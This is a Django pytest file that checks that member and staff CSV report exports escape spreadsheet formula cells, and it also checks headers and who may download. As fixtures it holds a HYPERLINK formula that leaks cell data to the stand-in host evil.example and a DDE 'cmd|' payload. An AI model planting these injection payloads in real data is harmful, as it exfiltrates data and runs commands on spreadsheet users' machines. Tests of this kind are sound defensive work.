"""The member's and the staff's report exports go through the one CSV writer: UTF-8 with a BOM, a cell that a
spreadsheet would run as a formula (= + - @, tab, CR) comes out as text, everything else as it was."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from tests.factories import SiteFactory
from tests.reports.helpers import submit_ok
from zilu.core.roles import Role
from zilu.members.models import Member
from zilu.reports.models import Report
from zilu.reports.selectors import MEMBER_CSV_COLUMNS, STAFF_CSV_COLUMNS

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
DESCRIPTION = "该页面以高额返利为诱饵诱导用户转账，属于典型的刷单诈骗。"


def read(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="reports.csv"'
    assert response["Cache-Control"] == "private, no-store"  # reporters' and members' records: no shared cache
    assert response.content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM, for spreadsheet programs
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def submitted(**overrides: str) -> Report:
    return Report.objects.get(pk=int(submit_ok(Client(), **overrides)["tracking_number"][2:]))


@pytest.fixture
def routed(db, member):
    """Two reports routed to the ``member`` fixture's member: one full of formula cells, one ordinary."""
    SiteFactory(member=member, domains=["shop.example.com.cn"])
    hostile = submitted(description="@SUM(1+1)*cmd|' /C calc'!A0")
    Report.objects.filter(pk=hostile.pk).update(target=HYPERLINK, public_outcome="\t=1+1")
    Member.objects.filter(pk=member.pk).update(name="+86 公司")
    ordinary = submitted(description=DESCRIPTION)
    return hostile, ordinary


def test_the_members_export_neutralises_formulas(client_for, routed):
    hostile, ordinary = routed
    rows = {row["tracking_number"]: row for row in read(client_for("member").get("/member/reports/export.csv"))}
    assert list(next(iter(rows.values()))) == MEMBER_CSV_COLUMNS
    assert rows[hostile.tracking_number]["target"] == "'" + HYPERLINK
    assert rows[hostile.tracking_number]["description"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[hostile.tracking_number]["public_outcome"] == "'\t=1+1"
    # Ordinary text and Chinese unchanged.
    assert rows[ordinary.tracking_number]["target"] == "https://news.shop.example.com.cn/item/42"
    assert rows[ordinary.tracking_number]["description"] == DESCRIPTION
    assert rows[ordinary.tracking_number]["public_outcome"] == ""


def test_the_staff_export_neutralises_formulas(client_for, routed):
    hostile, ordinary = routed
    Report.objects.filter(pk=ordinary.pk).update(target="\r=1+1")
    response = client_for("staff").get("/staff/reports/export.csv?status=open")
    rows = {row["tracking_number"]: row for row in read(response)}
    assert list(next(iter(rows.values()))) == STAFF_CSV_COLUMNS
    assert rows[hostile.tracking_number]["target"] == "'" + HYPERLINK
    assert rows[hostile.tracking_number]["member"] == "'+86 公司"
    assert rows[ordinary.tracking_number]["target"] == "'\r=1+1"
    assert rows[ordinary.tracking_number]["category"] == "fraud"
    assert rows[ordinary.tracking_number]["overdue_tier"] == "0"


@pytest.mark.parametrize("path", ["/member/reports/export.csv", "/staff/reports/export.csv"])
@pytest.mark.parametrize("role", ["public", "member", "staff", "supervisor", "superuser"])
def test_who_may_not_download_still_may_not(client_for, users, routed, path, role):
    allowed = {Role.MEMBER} if path.startswith("/member/") else {Role.STAFF, Role.SUPERVISOR}
    response = client_for(role).get(path)
    assert response.status_code == (200 if users[role].role in allowed else 403)
    if response.status_code == 403:
        assert "HYPERLINK" not in response.content.decode()
    assert Client().get(path).status_code == 302  # signed out: the login page
